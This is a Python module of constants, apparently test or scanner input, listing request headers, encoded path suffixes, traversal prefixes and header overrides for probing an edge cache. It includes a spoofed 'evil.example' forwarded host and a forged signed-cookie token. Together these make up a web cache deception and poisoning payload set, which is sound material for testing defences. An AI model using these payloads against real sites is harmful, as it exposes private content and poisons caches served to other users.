"""What somebody may try at an edge who wants to see, or to show others, what is not meant for them."""

HEADERS = [
    "Host", "X-Forwarded-Host", "X-Forwarded-For", "X-Forwarded-Proto", "X-Forwarded-Prefix", "X-Forwarded-Port",
    "X-Forwarded-Scheme", "Forwarded", "X-Host", "X-Original-URL", "X-Rewrite-URL", "X-HTTP-Method-Override", "Accept",
    "Accept-Encoding", "Accept-Language", "Range", "If-None-Match", "If-Range", "Origin", "Referer", "User-Agent",
    "Cookie", "Authorization", "Via", "X-Edge-Client", "X-Edge-Visitor", "X-Edge-Refresh", "X-Edge-Class",
    "X-Accel-Expires", "Cache-Control", "Content-Type",
]  # fmt: skip
# an address that leads to something closed, dressed as one of something open
SUFFIXES = (
    *(
        "",
        ".css",
        ";.css",
        "%3b.css",
        "%3f.css",
        "%23.css",
        "%2fx.css",
        "/x.css",
        "%2f..%2fx.css",
        "/..%2fx.js",
    ),
    *(".jpg", ".png", "%00.jpg", "%0a.css", "%0d%0ax", "%20", "%252f.css", "%5c.css", "~", "/", "//", "/."),
)
FRONTS = (
    "",
    "/",
    "/picturerail/..",
    "/static/..%2f..",
    "/static/..",
    "/picturerail/image/upload/..%2f..%2f..%2f..",
)
TRICKS: tuple[dict[str, str], ...] = (
    *({name: "/static/app.css"} for name in ("X-Original-URL", "X-Rewrite-URL", "X-Forwarded-Prefix")),
    *({name: "evil.example"} for name in ("X-Forwarded-Host", "Forwarded", "X-Host")),
    *({name: "1"} for name in ("X-Edge-Keep", "X-Edge-Refresh", "X-Edge-Secret", "X-Accel-Expires")),
    {"Range": "bytes=0-99"},
    {"If-None-Match": "*"},
    {"Accept": "text/css"},
    {"Cache-Control": "public, max-age=99"},
    {"Authorization": "Bearer x"},
    {"Cookie": "__cld_token__=exp=9999999999~acl=/*~hmac=00"},
)
